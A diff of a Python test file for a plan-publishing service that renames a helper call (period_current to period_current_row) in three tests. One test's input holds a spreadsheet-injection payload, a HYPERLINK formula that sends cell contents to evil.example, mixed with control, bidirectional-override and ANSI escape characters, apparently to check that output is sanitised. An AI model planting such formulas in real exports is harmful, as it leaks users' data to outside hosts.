@@ -190,7 +190,7 @@ def test_pmo_prepares_previews_publishes_and_the_public_reads_it_without_sign_in
 
 def test_narratives_are_left_out_unless_the_pmo_chooses_them(plan, pmo, actions, lead):
     m1 = actions[0]
-    period = plan_services.period_current(plan=plan, now=london(2026, 11, 16, 9))
+    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
     plan_services.update_submit(
         action=m1,
         period=period,
@@ -229,7 +229,7 @@ def test_control_and_invisible_characters_come_out_of_the_public_page_and_pdf(
         '\x01=HYPERLINK("http://evil.example/?"&A1,"click") CTG\u202e\x1b[31m training.'
     )
     m1.save()
-    period = plan_services.period_current(plan=plan, now=london(2026, 11, 16, 9))
+    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
     update = plan_services.update_submit(
         action=m1,
         period=period,
@@ -529,7 +529,7 @@ def test_publishing_needs_saved_settings(plan, pmo, actions):
 
 
 def test_history_does_not_bring_back_narratives_left_out(plan, pmo, actions, lead):
-    period = plan_services.period_current(plan=plan, now=london(2026, 11, 16, 9))
+    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
     plan_services.update_submit(
         action=actions[0],
         period=period,
